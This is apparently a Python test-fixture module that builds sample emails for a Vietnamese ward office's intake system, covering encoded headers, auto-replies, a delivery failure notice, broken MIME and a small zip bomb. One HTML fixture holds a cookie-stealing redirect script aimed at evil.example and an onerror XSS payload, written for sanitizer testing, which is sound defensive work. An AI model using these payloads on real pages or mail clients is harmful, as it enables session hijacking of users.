"""Sample mails as they arrive from real clients: Vietnamese encoded headers, RFC 2231 file names, auto-replies,
a delivery status notification, a mailing list, HTML with scripts, broken MIME."""

from __future__ import annotations

import base64
import io
import quopri
import zipfile
from datetime import datetime
from email.header import Header
from email.utils import format_datetime

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF\n"
SUBJECT = "Phản ánh: Đèn đường hỏng tại tổ 5, phường Đông Hà – cần sửa gấp"
SENDER_NAME = "Nguyễn Văn Ánh"
SENDER = "anh.nguyen@example.vn"
TEXT = "Kính gửi UBND phường,\n\nBa cột đèn trên đường Lê Duẩn, tổ 5, không sáng đã hai tuần nay.\n\nTrân trọng."
FILENAME = "Đơn kiến nghị số 01.pdf"


def _b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode("ascii")
    return "\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def _words(text: str) -> str:
    return Header(text, "utf-8").encode(linesep="\r\n")


def _date(when: datetime | None) -> str:
    return format_datetime(when) if when else "Tue, 03 Nov 2026 08:15:00 +0700"


def vietnamese(
    *,
    message_id: str = "<CAF=ank-001@mail.example.vn>",
    subject: str = SUBJECT,
    sender: str = SENDER,
    when: datetime | None = None,
    attachment: bytes = PDF,
    filename: str = FILENAME,
    extra_headers: str = "",
) -> bytes:
    """A Gmail-style mail: multipart/mixed with a multipart/alternative (quoted-printable plain text, base64 HTML)
    and a PDF whose name is given both as encoded words and as an RFC 2231 parameter."""
    plain = quopri.encodestring(TEXT.replace("\n", "\r\n").encode("utf-8")).decode("ascii")
    html = "<div dir=ltr>" + TEXT.replace("\n", "<br>") + "</div>"
    rfc2231 = "".join(
        ch if ch.isascii() and ch.isalnum() else "%" + "%".join(f"{b:02X}" for b in ch.encode()) for ch in filename
    )
    return (
        f"From: {_words(SENDER_NAME)} <{sender}>\r\n"
        f"To: tiepnhan@ubnd.test\r\n"
        f"Subject: {_words(subject)}\r\n"
        f"Date: {_date(when)}\r\n"
        f"Message-ID: {message_id}\r\n"
        f"{extra_headers}"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="mixed"\r\n'
        "\r\n"
        "--mixed\r\n"
        'Content-Type: multipart/alternative; boundary="alt"\r\n'
        "\r\n"
        "--alt\r\n"
        'Content-Type: text/plain; charset="UTF-8"\r\n'
        "Content-Transfer-Encoding: quoted-printable\r\n"
        "\r\n"
        f"{plain}\r\n"
        "--alt\r\n"
        'Content-Type: text/html; charset="UTF-8"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"{_b64(html.encode('utf-8'))}\r\n"
        "--alt--\r\n"
        "--mixed\r\n"
        f'Content-Type: application/pdf; name="{_words(filename)}"\r\n'
        f"Content-Disposition: attachment; filename*=utf-8''{rfc2231}\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"{_b64(attachment)}\r\n"
        "--mixed--\r\n"
    ).encode("ascii")


def simple(
    *, subject: str, text: str, sender: str = SENDER, message_id: str, headers: str = "", when: datetime | None = None
) -> bytes:
    body = base64.b64encode(text.encode("utf-8")).decode("ascii")
    return (
        f"From: {_words(SENDER_NAME)} <{sender}>\r\nTo: tiepnhan@ubnd.test\r\nSubject: {_words(subject)}\r\n"
        f"Date: {_date(when)}\r\nMessage-ID: {message_id}\r\n{headers}MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="UTF-8"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{body}\r\n"
    ).encode("ascii")


def out_of_office() -> bytes:
    """Outlook's automatic reply."""
    return simple(
        subject="Trả lời tự động: Thông báo tiếp nhận đơn",
        text="Tôi đang nghỉ phép đến hết ngày 10/11.",
        message_id="<ooo-1@example.vn>",
        headers="Auto-Submitted: auto-replied\r\nX-Auto-Response-Suppress: All\r\n",
    )


def delivery_failure() -> bytes:
    """A DSN as Gmail's mailer-daemon sends it: multipart/report with a message/delivery-status part."""
    return (
        "From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>\r\nTo: tiepnhan@ubnd.test\r\n"
        "Subject: Delivery Status Notification (Failure)\r\nDate: Tue, 03 Nov 2026 08:15:00 +0000\r\n"
        "Message-ID: <dsn-1@mx.google.com>\r\nAuto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="r"\r\n\r\n'
        "--r\r\nContent-Type: text/plain\r\n\r\nAddress not found.\r\n"
        "--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; googlemail.com\r\n\r\n"
        "Final-Recipient: rfc822; nobody@example.vn\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n--r--\r\n"
    ).encode("ascii")


def mailing_list() -> bytes:
    return simple(
        subject="Bản tin tuần",
        text="Tin tức trong tuần của hiệp hội.",
        sender="bantin@hiephoi.example.vn",
        message_id="<list-1@hiephoi.example.vn>",
        headers="List-Id: <bantin.hiephoi.example.vn>\r\nList-Unsubscribe: <mailto:leave@hiephoi.example.vn>\r\nPrecedence: list\r\n",
    )


def html_only_with_script() -> bytes:
    html = (
        "<html><head><title>Phản ánh</title><script>alert('head')</script><style>p{color:red}</style></head>"
        "<body><p>Rác thải &amp; nước bẩn tràn ra đường Hùng Vương.</p>"
        "<script type='text/javascript'>document.location='https://evil.example/'+document.cookie</script>"
        '<p onclick="steal()">Đề nghị phường xử lý.</p><img src=x onerror=alert(1)></body></html>'
    )
    return (
        f"From: {_words(SENDER_NAME)} <{SENDER}>\r\nTo: tiepnhan@ubnd.test\r\nSubject: {_words('Rác thải tràn ra đường')}\r\n"
        "Date: Tue, 03 Nov 2026 08:15:00 +0700\r\nMessage-ID: <html-1@example.vn>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: text/html; charset="UTF-8"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{_b64(html.encode('utf-8'))}\r\n"
    ).encode("ascii")


def malformed() -> bytes:
    """A multipart mail whose boundary never appears: its parts cannot be told apart."""
    return (
        f"From: {SENDER}\r\nTo: tiepnhan@ubnd.test\r\nSubject: broken\r\nMessage-ID: <broken-1@example.vn>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="nowhere"\r\n\r\n'
        "--elsewhere\r\nContent-Type: text/plain\r\n\r\nhello\r\n--elsewhere--\r\n"
    ).encode("ascii")


def zip_bomb() -> bytes:
    """A small zip that inflates to 100 MB (nested entries of zeros): never unpacked, refused by its type."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for n in range(10):
            archive.writestr(f"{n}.bin", b"\0" * (10 * 1024 * 1024))
    return buffer.getvalue()
